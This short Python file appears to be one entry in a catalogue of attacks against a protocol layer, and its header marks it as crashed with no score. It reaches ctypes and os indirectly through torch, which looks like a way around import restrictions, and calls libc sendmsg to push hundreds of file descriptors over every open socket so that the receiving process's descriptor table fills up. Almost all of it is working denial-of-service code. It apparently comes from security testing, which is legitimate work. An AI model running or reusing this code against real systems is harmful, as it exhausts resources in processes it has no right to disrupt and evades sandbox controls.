# attack: sends descriptors along with its bytes, to fill the reader's table of them
# layer: protocol
# where: forward
# status: crashed
# score: none
import torch

ctypes, os, stat = torch.ctypes, torch.os, __import__("stat")
libc = ctypes.CDLL(None, use_errno=True)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint),
        ("pieces", ctypes.POINTER(Piece)),
        ("piece_count", ctypes.c_size_t),
        ("control", ctypes.c_char_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    ]


def attack():
    control = (16 + 4 * 200).to_bytes(8, "little") + (1).to_bytes(4, "little") * 2 + bytes(4 * 200)
    message = Message(None, 0, ctypes.pointer(Piece(b"x", 1)), 1, control, len(control), 0)
    for descriptor in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                continue
        except OSError:
            continue
        for _ in range(20):
            libc.sendmsg(descriptor, ctypes.byref(message), 0x40)
